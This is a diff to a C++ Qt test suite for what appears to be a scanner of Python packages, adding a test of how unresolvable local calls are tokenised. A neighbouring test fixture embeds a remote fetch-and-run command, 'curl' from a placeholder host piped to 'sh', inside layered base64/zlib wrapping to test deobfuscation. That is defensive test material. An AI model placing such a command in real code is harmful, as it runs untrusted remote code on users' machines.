@@ -195,6 +195,20 @@ class TestReach : public QObject {
         QCOMPARE(sequence.sources.size(), std::size_t(1));
     }
 
+    void callsIntoOwnModulesThatCannotBeFollowedAreOneToken() {
+        // Names of the package's own code that reach cannot inline (a class attribute chain, a name the module does
+        // not define) are `<local>`, not `Registry.register`: those names are this package's alone, and as tokens
+        // they made every benign package look like an outlier. Outside names keep theirs.
+        const std::vector<File> package = {
+            {"pkg/__init__.py", "from pkg import core\n"
+                                "core.Registry.register('x')\ncore.missing()\nimport json\njson.dumps(1)\n"},
+            {"pkg/core.py", "class Registry:\n    pass\n"},
+        };
+        const CallSequence sequence = analyzeEntry(package, 0, "");
+        QCOMPARE(names(sequence), list("<local> <local> json.dumps"));
+        QCOMPARE(sequence.calls.front().source, 0u); // still where it stands, for the code view
+    }
+
     void base64ZlibOnionIsPeeled() {
         const std::string inner = "import os\nos.system('curl http://x.invalid | sh')\n";
         const std::string script = wrapLayer(wrapLayer(wrapLayer(inner)));
